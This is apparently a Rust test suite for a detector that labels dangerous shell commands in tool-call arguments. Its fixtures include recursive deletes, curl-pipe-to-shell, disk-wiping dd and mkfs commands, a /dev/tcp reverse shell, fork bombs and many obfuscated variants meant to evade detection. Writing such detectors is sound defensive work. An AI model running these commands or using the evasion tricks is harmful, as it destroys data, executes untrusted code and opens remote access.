use serde_json::json;

use super::{Rule, check, labels, of};

const RULES: &[Rule] = &[
    (
        "shell:command:rm",
        &[
            "rm a",
            "/bin/rm a",
            "r\\m a",
            "\"rm\" a",
            "'r'm a",
            "$'\\x72m' a",
            "$'\\162m' a",
            "sudo rm a",
            "sudo -u root rm a",
            "env A=1 rm a",
            "A=1 rm a",
            "echo a | xargs -n 1 rm",
            "nohup rm a &",
            "time rm a",
            "busybox rm a",
            "timeout 5 rm a",
            "timeout -k 1 5s nice -n 3 rm a",
            "sh -c 'rm a'",
            "bash -lc \"rm a\"",
            "bash -c \"sh -c 'rm a'\"",
            "echo $(rm a)",
            "echo `rm a`",
            "echo \"${x:-$(rm a)}\"",
            "if true; then rm a; fi",
            "f() { rm a; }; f",
            "(rm a)",
            "{ rm a; }",
            "cat <(rm a)",
            "a && rm b",
            "a || rm b",
            "a; rm b",
            "a\nrm b",
            "for f in $(rm a); do b; done",
            "while rm a; do b; done",
            "case $(rm a) in b) c;; esac",
            "[[ $(rm a) ]]",
            "! rm a",
            "rm${IFS}-f${IFS}a",
            "{rm,-rf,a}",
            "eval 'rm a'",
            "eval rm a",
            "eval \"eval 'rm a'\"",
            "bash <<< 'rm a'",
            "bash <<EOF\nrm a\nEOF",
            "cat <<EOF\n$(rm a)\nEOF",
            "find . -exec rm {} ;",
            "env -S 'rm a'",
            "su -c 'rm -f a'",
            "su - u -c 'rm -f a'",
            "trap 'rm a' EXIT",
            "command rm a",
            "exec rm a",
            "$EMPTY rm a",
            "r$@m a",
            "rm a >/dev/null 2>&1",
            "> x rm a",
            "ssh h 'rm a'",
            "ssh h rm a",
            "watch 'rm a'",
            "${x:-rm} a",
            "rm 'unterminated",
            "x=$(rm a)",
            "echo $(( $(rm a) ))",
            "coproc rm a",
            "sudo --user root rm a",
            "xargs -I{} sh -c 'rm {}'",
            "( ( rm a ) )",
            "((rm a))",
            "( (a; rm b) )",
            "( ( ( ( rm a ) ) ) )",
            "( ( rm ) )",
        ],
        &[
            "echo rm",
            "echo 'rm a'",
            "ls rm",
            "# rm a",
            "((rm + 1))",
            "((i++))",
            "grep rm file",
            "echo \"rm -rf /\"",
            "cat <<'EOF'\n$(rm a)\nEOF",
        ],
    ),
    (
        "shell:pipe-to-shell",
        &[
            "curl x | sh",
            "curl x|sudo bash",
            "wget -qO- x | bash -s -- -y",
            "curl x | tee f | /bin/sh",
            "curl x | python3",
            "curl x | python -",
            "curl x | perl",
            "curl x | node -",
            "bash <(curl x)",
            "sh -c \"$(curl x)\"",
            "eval \"$(curl x)\"",
            "eval `wget -O- x`",
            "source <(curl x)",
            ". <(curl x)",
            "echo aWQ= | base64 -d | sh",
            "curl x | (bash)",
            "curl x | { sh; }",
            "curl x |& bash",
            "curl x | xargs -0 bash",
            "curl x | env A=1 bash",
            "sh < <(curl x)",
            "bash <<< \"$(curl x)\"",
            "$(curl x)",
            "python3 -c \"$(curl x)\"",
            "curl x | bash /dev/stdin a",
            "curl x > >(bash)",
            "curl x | zsh",
            "curl x | dash -x",
            "bash -c 'curl x | sh'",
            "a 'b | curl x | sh",
        ],
        &[
            "curl x",
            "curl x | jq .",
            "sh script.sh",
            "echo a | bash script.sh",
            "cat a | python script.py",
            "sh -c 'ls'",
            "ls | python3 -c 'print(1)'",
            "a || sh",
            "echo '| sh'",
        ],
    ),
    (
        "shell:recursive-delete",
        &[
            "rm -r a",
            "rm -rf /",
            "rm -fR a",
            "rm -vfr a",
            "rm --recursive a",
            "rm --rec a",
            "rm a -r",
            "rm -f -r a",
            "find . -delete",
            "find . -name x -exec rm {} \\;",
            "find . -exec rm {} +",
            "find . -execdir /bin/rm {} ;",
            "find . | xargs rm",
            "sudo rm -rf a",
            "sh -c 'rm -rf a'",
            "\"rm\" \"-rf\" a",
            "rm -{r,f} a",
            "rm $'-rf' a",
            "cd / && rm -rf *",
            "xargs rm -rf",
            "busybox rm -r a",
            "rm -r 'x",
        ],
        &["rm a", "rm -f a", "rm -- a", "rmdir a", "find . -name '*.r'", "echo rm -r", "ls -R", "grep -r rm ."],
    ),
    (
        "shell:privilege",
        &["sudo ls", "su -", "doas ls", "/usr/bin/sudo ls", "env sudo ls", "a | sudo tee b"],
        &["ls sudo", "echo sudo", "man su"],
    ),
    ("shell:download", &["curl x", "wget x", "a && /usr/bin/curl x", "$(wget x)", "time curl x"], &["echo curl", "cat wget.log", "ls"]),
    ("shell:multi", &["a; b", "a && b", "a || b", "a & b", "a\nb", "sh -c 'a; b'"], &["a", "a | b", "a;", "echo 'a; b'"]),
    (
        "shell:redirect-write",
        &["a > b", "a >> b", "a &> b", "a >| b", "> b", "a 2> b", "(a) > b", "a <> b", "f() { a; } > b"],
        &["a < b", "a > /dev/null", "a 2>&1", "echo '> b'", "a | b"],
    ),
    ("shell:background", &["a &", "a & b", "(a &)", "coproc a"], &["a", "a && b", "a 2>&1", "a &> b"]),
    (
        "shell:device-write",
        &[
            "dd if=x of=/dev/sda",
            "a > /dev/sda",
            "mkfs.ext4 /dev/sdb",
            "cat x | tee /dev/nvme0n1",
            "shred /dev/sda",
            "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
            "cp x /dev/sda",
        ],
        &["dd if=/dev/sda of=x", "a > /dev/null", "cat /dev/sda", "cp /dev/sda x", "dd of=/dev/null"],
    ),
    (
        "shell:chmod-world",
        &["chmod 777 a", "chmod -R 0777 a", "chmod o+w a", "chmod a=rwx a", "chmod u+x,o+rw a", "sudo chmod 666 a"],
        &["chmod 755 a", "chmod u+w a", "chmod o-w a", "chmod +x a", "chmod 640 a"],
    ),
    (
        "shell:fork-bomb",
        &[":(){ :|:& };:", ":() { : | : & } ; :", "f() { f | f & }; f"],
        &["f() { a | b & }; f", "f() { f; }; f", "a | a &"],
    ),
    ("shell:dynamic", &["$X a", "$(echo ls) a", "${x}y", "/bin/r? a", "`echo ls`"], &["ls $X", "echo $(date)", "[ -f a ]", "ls *"]),
    ("shell:unparsed", &["a 'b", "if a; then", "a | | b", "(a"], &["a", "a | b", "if a; then b; fi", "cat <<E\nx\nE"]),
];

#[test]
fn each_label_is_on_what_does_it_and_on_nothing_else() {
    check("command", RULES);
}

#[test]
fn arrays_are_commands_too() {
    for arguments in [
        json!({"args": ["rm", "-rf", "/"]}),
        json!({"command": ["rm", "-rf", "/"]}),
        json!({"command": "rm", "args": ["-rf", "/"]}),
        json!({"command": "rm", "args": "-rf /"}),
        json!({"run": {"program": "/bin/sh", "args": ["-c", "rm -rf /"]}}),
        json!({"commands": ["ls", "rm -rf /"]}),
        json!({"anything": ["sh", "-c", "rm -rf /"]}),
    ] {
        assert!(of(&arguments).contains("shell:recursive-delete"), "{arguments}");
    }
    for arguments in [json!({"args": ["echo", "rm -rf /"]}), json!({"command": "echo", "args": ["rm", "-rf"]}), json!({"ids": ["a", "-r"]})]
    {
        assert!(!of(&arguments).contains("shell:recursive-delete"), "{arguments}");
    }
}

#[test]
fn commands_are_found_in_arguments_with_any_name() {
    for text in ["rm -rf /", "sudo rm -rf x", "cd /x && rm -rf y", "FOO=1 rm -rf x", "(rm -rf x)", "mytool | xargs rm -rf"] {
        assert!(labels("text", text).contains("shell:recursive-delete"), "{text}");
    }
    assert!(labels("text", "mytool -q | sh").contains("shell:pipe-to-shell"));
    assert!(labels("text", "rm -rf / ; echo '").contains("shell:recursive-delete"));
}

#[test]
fn deep_and_long_texts_are_refused_and_labelled() {
    for text in [
        "(".repeat(100_000),
        "((".repeat(39),
        "case a in a) ".repeat(40),
        "{ ".repeat(100_000),
        "$(".repeat(100_000),
        "\"$(".repeat(10_000),
        "`".repeat(10_001),
        "${x:-".repeat(10_000),
        "if ".repeat(10_000),
        "while ".repeat(10_000),
        "[[ ! ".repeat(10_000),
        "a() ".repeat(10_000),
        "eval ".repeat(20_000),
        "sudo ".repeat(20_000),
        "sudo rm ".repeat(20_000),
        "a <<E ".repeat(1_000),
        "a | ".repeat(10_000),
        "sh -c \"sh -c 'sh -c \\\"sh -c a\\\"'\" | ".repeat(100),
    ] {
        assert!(labels("command", &text).contains("shell:unparsed"), "{}", &text[..40]);
    }
    let long = format!("echo {}; rm -rf /", "x".repeat(100_000));
    assert!(labels("command", &long).contains("shell:recursive-delete"));
    let deep = format!("{}rm -rf a{}", "{ ".repeat(10), "; }".repeat(10));
    let found = std::thread::Builder::new().stack_size(256 << 10).spawn(move || labels("command", &deep)).unwrap().join().unwrap();
    assert!(found.contains("shell:recursive-delete") && !found.contains("shell:unparsed"), "{found:?}");
}
